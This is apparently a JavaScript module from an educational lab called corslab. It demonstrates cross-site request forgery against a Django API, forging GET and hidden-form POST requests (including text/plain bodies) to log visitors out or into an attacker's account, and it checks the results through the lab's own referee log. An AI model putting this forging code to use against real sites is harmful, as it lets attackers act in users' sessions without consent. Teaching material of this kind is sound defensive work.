// What every forgery shares: a request the visitor's browser sends as a top-level navigation
// (a form post or a link), into a window of its own so that this page stays to tell what
// happened. The attacker never sees the API's answer: that window shows another origin. So,
// once the request went out, this page asks corslab's referee (the lab's exchange log, which
// no real attacker can read) what the API received and answered, and says so.

import { afterAClick, apiUrl, config, finish, report } from "./common.js";

const WINDOW = "corslab-forged";
const WAIT_MS = 8000;

/** The forged request's window, after a click when the browser blocks popups. */
async function openWindow() {
  const opened = window.open("", WINDOW);
  if (opened) return opened;
  await afterAClick({ en: "Launch the attack", ja: "攻撃を開始する" });
  return window.open("", WINDOW);
}

/** Sends `method path` from the visitor's browser: GET as a navigation, POST as a form. */
function send(method, url, form) {
  if (method === "GET") {
    window.open(url, WINDOW);
    return;
  }
  const element = document.createElement("form");
  element.method = "POST";
  element.action = url;
  element.enctype = form.enctype;
  element.target = WINDOW;
  for (const [name, value] of form.fields) {
    const input = document.createElement("input");
    input.type = "hidden";
    input.name = name;
    input.value = value;
    element.append(input);
  }
  document.body.append(element);
  element.submit();
}

/** What the referee saw of this forged request, once the API answered it (or `null`). */
async function refereeSaw(since, method, path) {
  if (!config.lab) return null;
  const url = new URL(`/${config.id}/referee`, location.origin);
  url.searchParams.set("lab", config.lab);
  url.searchParams.set("since", String(since));
  for (const started = Date.now(); Date.now() - started < WAIT_MS; ) {
    await new Promise((resolve) => setTimeout(resolve, 200));
    const answer = await (await fetch(url)).json().catch(() => null);
    const seen = answer && answer.seen.find((e) => e.method === method && e.path === path && e.mode === "navigate");
    if (seen) return seen;
  }
  return null;
}

/**
 * Forges `method path` (`form`: `{enctype, fields}` for a POST) and finishes with what
 * `effect(seen)` makes of the referee's answer: `{succeeded, en, ja}`.
 */
export async function forge({ method, path, form, effect }) {
  const url = apiUrl(path, "include");
  const sent = { method, url, ...(form && { enctype: form.enctype, body: encode(form) }) };
  if (!(await openWindow())) {
    finish(false, { sent: null }, { en: "the browser blocked the new window.", ja: "ブラウザーが新しいウィンドウを開かせませんでした。" });
    return;
  }
  const since = Date.now();
  send(method, url, form);
  // All the attacker itself can know: what it sent. The answer is in a window it cannot read.
  const loot = { against: config.against, sent, answer: "unreadable: another origin's window" };
  await report(loot);
  const seen = await refereeSaw(since, method, new URL(url).pathname);
  if (!seen) {
    const why = config.lab
      ? { en: "corslab's referee saw no answer from the API.", ja: "corslab の審判は API の応答を見ていません。" }
      : { en: "without ?lab=<your visitor id>, corslab cannot tell whether it had an effect.", ja: "?lab=<訪問者 ID> がないので、効果があったかどうか corslab にはわかりません。" };
    finish(false, { ...loot, referee: null }, why);
    return;
  }
  const { succeeded, en, ja: inJa } = effect(seen);
  finish(succeeded, { ...loot, referee: seen }, {
    en: `${en} (The attacker sees none of this; corslab's referee read it from the lab's exchange log.)`,
    ja: `${inJa}（攻撃者にはこれが一切見えません。corslab の審判がラボの交換ログから読み取りました。）`,
  });
}

/** The body a browser sends for the form, as the attacker wrote it. */
function encode(form) {
  return form.enctype === "text/plain"
    ? form.fields.map(([name, value]) => `${name}=${value}`).join("\r\n")
    : new URLSearchParams(form.fields).toString();
}

/** Why the API did not do what the forgery asked, from its status. */
function refused(seen) {
  if (seen.status === 403) {
    return { en: "the API refused it: 403 CSRF Failed (the new window shows Django's reason).", ja: "API が拒否しました。403 CSRF Failed です（新しいウィンドウに Django の理由が出ています）。" };
  }
  if (seen.status === 405) {
    return { en: "the API does not answer that method here (405).", ja: "API はここでそのメソッドに応じません（405）。" };
  }
  if (seen.status === 415) {
    return { en: "the API did not read the body as JSON (415).", ja: "API は本文を JSON として読みませんでした（415）。" };
  }
  return { en: `the API answered ${seen.status}.`, ja: `API は ${seen.status} を返しました。` };
}

/** Logout's effect: the session cookie went along and the answer deleted it. */
export function loggedOut(seen) {
  if (seen.status !== 200) return { succeeded: false, ...refused(seen) };
  if (!seen.cookies.includes("sessionid")) {
    return {
      succeeded: false,
      en: "the API took the request, but your browser sent no session cookie with it (SameSite keeps it off this request), so there was no session to end.",
      ja: "API はリクエストを受け付けましたが、あなたのブラウザーはセッション Cookie を付けませんでした（SameSite がこのリクエストに付けさせません）。終わらせるセッションがありませんでした。",
    };
  }
  return {
    succeeded: seen.cookies_deleted.includes("sessionid"),
    en: "your browser sent your session cookie with the forged request, and the API ended the session: you are logged out.",
    ja: "あなたのブラウザーが偽造リクエストにセッション Cookie を付けて送り、API がそのセッションを終わらせました。あなたはログアウトされています。",
  };
}

/** Login's effect: the answer gave the browser a session (the attacker's). */
export function loggedInAs(username) {
  return (seen) => {
    if (seen.status !== 200) return { succeeded: false, ...refused(seen) };
    return {
      succeeded: seen.cookies_set.includes("sessionid"),
      en: `the API logged your browser in as ${username}: whatever you do next there happens in the attacker's account.`,
      ja: `API があなたのブラウザーを ${username} としてログインさせました。この後そこであなたがすることは、すべて攻撃者のアカウントで起きます。`,
    };
  };
}
